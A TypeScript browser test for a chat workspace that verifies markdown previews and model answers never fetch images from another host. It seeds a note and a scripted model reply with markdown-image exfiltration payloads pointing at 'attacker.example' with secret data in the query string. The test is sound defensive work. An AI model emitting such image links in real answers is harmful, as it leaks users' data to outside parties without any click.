// An image in a markdown preview or a model answer never makes the browser fetch from another
// host: `![x](https://attacker.example/c?d=SECRET)` would carry data out with no click. Chromium's
// own request log is the witness. Workspace images still load, through this server.
import { describe, expect, it } from 'vitest'
import { readFileSync } from 'node:fs'
import type { Request } from 'playwright-core'
import { findUserByLogin } from '../../src/effects/auth/users.ts'
import { putFile } from '../../src/effects/workspace/store.ts'
import { ask, assistantMessage, useBrowserFixture, SECURE_PAGE, waitForAnswer } from '../support/browser.ts'
import { REMOTE_MODEL, startChatWorkspace } from '../support/chat-workspace.ts'
import { chatCompletionSse, streamScript } from '../support/scripted-provider.ts'

const REMOTE = 'attacker.example'
const PIXEL = readFileSync(new URL('../fixtures/documents/pixel.png', import.meta.url))

const ui = useBrowserFixture({
  start: async () => {
    const app = await startChatWorkspace()
    const alice = (await findUserByLogin(app.server.database.db, 'alice'))!
    await putFile(app.server.database.db, {
      owner: alice,
      segments: ['pics', 'pixel.png'],
      bytes: new Uint8Array(PIXEL),
      parsed: { ok: false, mime: 'image/png', error: 'no text in an image' },
    })
    await app.putText(['pics', 'notes.md'], `# Notes\n\n![chart](https://${REMOTE}/c?d=SECRET "Q3")\n\n![local](pixel.png)\n\n![absolute](kb://users/alice/pics/pixel.png)\n`)
    return app
  },
})

describe('remote images', () => {
  const mode = SECURE_PAGE
  const workspace = ui.workspace(mode)

  it('neither a preview nor a model answer requests anything from another host; workspace images load', async () => {
    const page = await workspace.open({ uri: 'kb://users/alice/pics/' })
    const requested: string[] = []
    page.on('request', (request: Request) => requested.push(request.url()))

    await page.locator('#tree .node-link', { hasText: 'notes.md' }).click()
    await page.locator('#content .markdown').waitFor()
    await page.waitForLoadState('networkidle')
    expect(requested.filter((url) => url.includes(REMOTE))).toEqual([])
    const external = page.locator('#content .markdown a.external-image')
    await expect(external.textContent()).resolves.toBe(`External image, not loaded: chart (${REMOTE})`)
    await expect(external.getAttribute('href')).resolves.toBe(`https://${REMOTE}/c?d=SECRET`)
    const images = page.locator('#content .markdown img')
    await expect(images.count()).resolves.toBe(2)
    await expect
      .poll(() => images.evaluateAll((elements) => elements.map((img) => (img as HTMLImageElement).complete && (img as HTMLImageElement).naturalWidth > 0)))
      .toEqual([true, true])

    await page.locator('#chat-model').selectOption(REMOTE_MODEL)
    ui.app.provider.enqueue(streamScript(chatCompletionSse([{ text: `Here it is: ![x](https://${REMOTE}/c?d=SECRET2)` }, { finish: 'stop' }, 'done'])))
    await ask(page, 'Show me the chart')
    await waitForAnswer(page)
    await page.waitForLoadState('networkidle')
    await expect(assistantMessage(page).locator('a.external-image').textContent()).resolves.toBe(`External image, not loaded: x (${REMOTE})`)
    await expect(assistantMessage(page).locator('img').count()).resolves.toBe(0)

    expect(requested.filter((url) => url.includes(REMOTE))).toEqual([])
    expect(requested.filter((url) => url.includes('/api/v1/workspace/raw')).length).toBeGreaterThan(0)
    expect(workspace.problems()).toEqual([])
  })
})
